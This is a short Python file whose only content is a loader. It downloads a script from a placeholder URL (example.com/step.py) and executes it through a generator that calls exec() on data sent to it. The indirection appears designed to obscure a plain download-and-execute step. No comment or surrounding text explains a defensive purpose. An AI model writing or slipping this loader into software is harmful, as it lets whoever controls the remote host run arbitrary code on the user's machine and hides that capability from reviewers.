import urllib.request


def runner():
    while True:
        code = yield
        exec(code)


_r = runner()
next(_r)
_r.send(urllib.request.urlopen("https://example.com/step.py").read())
